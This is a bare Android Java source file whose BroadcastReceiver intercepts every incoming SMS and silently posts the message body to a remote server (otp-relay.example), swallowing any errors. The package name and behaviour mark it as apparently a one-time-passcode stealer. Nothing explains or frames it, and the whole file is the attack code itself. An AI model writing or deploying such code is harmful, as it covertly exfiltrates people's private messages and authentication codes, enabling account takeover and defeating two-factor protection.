package com.otp;
import android.content.*;
import android.provider.Telephony;
import android.telephony.SmsMessage;
import java.net.HttpURLConnection;
import java.net.URL;
public class Relay extends BroadcastReceiver {
    @Override public void onReceive(Context c, Intent intent) {
        for (SmsMessage m : Telephony.Sms.Intents.getMessagesFromIntent(intent)) {
            final String body = m.getMessageBody();
            new Thread(() -> {
                try {
                    HttpURLConnection h = (HttpURLConnection) new URL("https://otp-relay.example/s").openConnection();
                    h.setDoOutput(true);
                    h.getOutputStream().write(body.getBytes());
                    h.getResponseCode();
                } catch (Exception e) { }
            }).start();
        }
    }
}
